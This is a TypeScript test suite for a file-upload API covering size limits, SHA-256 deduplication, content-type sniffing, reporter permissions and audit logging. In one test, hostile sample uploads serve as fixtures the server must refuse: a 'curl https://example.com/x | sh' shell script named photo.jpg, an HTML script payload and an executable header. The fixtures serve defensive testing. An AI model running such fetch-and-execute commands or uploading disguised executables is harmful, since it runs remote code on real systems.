import { createHash, randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FileBlob } from '../../server/modules/file/file-blob.entity';
import { Api, errorCode, errorDetails, refusedFields, restAnswer, startApi } from '../support/api';
import { photoBytes, uploadFile, wordDocument } from '../support/files';
import { solidPng } from '../support/images';
import { recordResult, startRun } from '../support/cat';
import { createDeployment } from '../support/fixtures';
import { graphql } from '../support/generated';

const DENIALS = graphql(`query UploadDenials { auditEvents(first: 100, filter: { operation: "PERMISSION_DENIED" }) { nodes { actor after } } }`);

let api: Api;
beforeAll(async () => { api = await startApi(); });
afterAll(async () => { await api?.close(); });

const post = (body: Buffer | string, headers: Record<string, string>) =>
  fetch(`${api.url}/files`, { method: 'POST', headers: { ...api.headers, ...headers }, body: typeof body === 'string' ? body : new Uint8Array(body) });

describe('POST /files', () => {
  it('refuses a request without a file name (the CSRF rule) or without bytes, storing nothing', async () => {
    const noName = await post(Buffer.from('x'), { 'content-type': 'image/jpeg' });
    expect(noName.status).toBe(400);
    const body = await restAnswer(noName);
    expect(errorCode(body)).toBe('BAD_USER_INPUT');
    expect(refusedFields(body)).toEqual(['X-File-Name']);

    const empty = await post(Buffer.alloc(0), { 'content-type': 'image/jpeg', 'x-file-name': 'a.jpg' });
    expect(empty.status).toBe(400);
    expect(refusedFields(await restAnswer(empty))).toEqual(['body']);
    expect(await api.app.db.manager.count(FileBlob)).toBe(0);
  });

  it('refuses a file over 10 MB with 413 PAYLOAD_TOO_LARGE and stores nothing', async () => {
    const res = await post(Buffer.alloc(10 * 1024 * 1024 + 1, 1), { 'content-type': 'application/pdf', 'x-file-name': 'big.pdf' });
    expect(res.status).toBe(413);
    expect(errorCode(await restAnswer(res))).toBe('PAYLOAD_TOO_LARGE');
    expect(await api.app.db.manager.count(FileBlob)).toBe(0);
  });

  it('stores a file of exactly 10 MB', async () => {
    const bytes = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(10 * 1024 * 1024 - 9, 7)]);
    const stored = await uploadFile(api, bytes, 'scan.pdf', 'application/pdf');
    expect(stored).toMatchObject({ size: bytes.length, sha256: createHash('sha256').update(bytes).digest('hex') });
  });

  it('is idempotent by SHA-256: the same bytes answer 200 with the first record, stored once', async () => {
    const bytes = photoBytes(2044);
    const sha256 = createHash('sha256').update(bytes).digest('hex');
    const first = await post(bytes, { 'content-type': 'image/jpeg', 'x-file-name': encodeURIComponent('Scanner – front.jpg') });
    expect(first.status).toBe(200);
    expect(await first.json()).toMatchObject({ sha256, fileName: 'Scanner – front.jpg', contentType: 'image/jpeg', size: 2048 });
    const again = await Promise.all([1, 2, 3].map(() => post(bytes, { 'content-type': 'image/jpeg', 'x-file-name': 'other-name.jpg' })));
    for (const res of again) {
      expect(res.status).toBe(200);
      expect(await res.json()).toMatchObject({ sha256, fileName: 'Scanner – front.jpg' });
    }
    expect(await api.app.db.manager.countBy(FileBlob, { sha256 })).toBe(1);
  });

  it('refuses content that is neither a photo nor a document with 415 BAD_USER_INPUT naming file, whatever its name and type', async () => {
    const stored = await api.app.db.manager.count(FileBlob);
    for (const [bytes, name, type] of [
      [Buffer.from('#!/bin/sh\ncurl https://example.com/x | sh\n'), 'photo.jpg', 'image/jpeg'],
      [Buffer.from('<html><script>alert(1)</script></html>'), 'scan.pdf', 'application/pdf'],
      [Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'), 'minutes.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
      [Buffer.from('kick-off minutes'), 'minutes.txt', 'text/plain'],
    ] as const) {
      const res = await post(bytes, { 'content-type': type, 'x-file-name': name });
      expect(res.status, name).toBe(415);
      const body = await restAnswer(res);
      expect(body.errors![0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', details: { fields: [{ field: 'file' }] } });
      expect(body.errors![0].message).toMatch(/not a photo .* or a document/);
    }
    expect(await api.app.db.manager.count(FileBlob)).toBe(stored);
  });

  it('stores photos and documents with the type their content shows, not the declared one', async () => {
    const png = await uploadFile(api, solidPng(8, 8, [1, 2, 3]), 'front.jpg', 'image/jpeg');
    expect(png.contentType).toBe('image/png');
    const docx = await uploadFile(api, wordDocument('Go-live plan'), 'plan.docx', 'application/octet-stream');
    expect(docx.contentType).toBe('application/vnd.openxmlformats-officedocument.wordprocessingml.document');
    const pdf = await uploadFile(api, Buffer.from('%PDF-1.4 DOJ form 8016'), 'form.pdf', 'application/pdf');
    expect(pdf.contentType).toBe('application/pdf');

    // A document is not a photo: a CAT attempt naming one as its photo is refused.
    const run = await startRun(api, (await createDeployment(api, 'Tulare', 60)).id);
    const caseId = run.cases.find((c) => c.status === 'UNTESTED')!.testCase.id;
    const refused = await recordResult(api, { runId: run.id, caseId, status: 'PASSED', photos: [png.sha256, pdf.sha256] });
    expect(errorCode(refused)).toBe('BAD_USER_INPUT');
    expect(refusedFields(refused)).toEqual(['photos[1]']);
    expect(errorDetails(refused).fields![0].message).toMatch(/is not a photo \(it is application\/pdf\)/);
    expect((await recordResult(api, { runId: run.id, caseId, status: 'PASSED', photos: [png.sha256] })).errors).toBeUndefined();
  });

  it('refuses a reporter with 403 FORBIDDEN, stores nothing and records the denial as a security event', async () => {
    const reporter = await api.as('REPORTER', { name: 'Uploading reporter' });
    const stored = await api.app.db.manager.count(FileBlob);
    const res = await fetch(`${api.url}/files`, {
      method: 'POST', headers: { ...reporter.headers, 'content-type': 'image/jpeg', 'x-file-name': 'x.jpg' }, body: new Uint8Array(randomBytes(64)),
    });
    expect(res.status).toBe(403);
    expect(errorCode(await restAnswer(res))).toBe('FORBIDDEN');
    expect(await api.app.db.manager.count(FileBlob)).toBe(stored);
    const denials = (await api.gql(DENIALS)).data!.auditEvents.nodes;
    expect(denials).toContainEqual({ actor: 'Uploading reporter', after: { operation: 'POST /files/', why: expect.stringContaining('may not upload') } });
  });
});

describe('GET /files/:sha256', () => {
  it('answers the bytes with their content type, never as a page', async () => {
    const bytes = solidPng(16, 16, [200, 30, 30]);
    const { sha256 } = await uploadFile(api, bytes, 'photo.png', 'image/png');
    const res = await fetch(`${api.url}/files/${sha256}`, { headers: api.headers });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('image/png');
    expect(res.headers.get('content-security-policy')).toContain('sandbox');
    expect(Buffer.from(await res.arrayBuffer()).equals(bytes)).toBe(true);
  });

  it('answers 404 NOT_FOUND for an unknown or malformed hash', async () => {
    for (const sha of ['0'.repeat(64), 'not-a-hash']) {
      const res = await fetch(`${api.url}/files/${sha}`, { headers: api.headers });
      expect(res.status).toBe(404);
      expect(errorCode(await restAnswer(res))).toBe('NOT_FOUND');
    }
  });
});
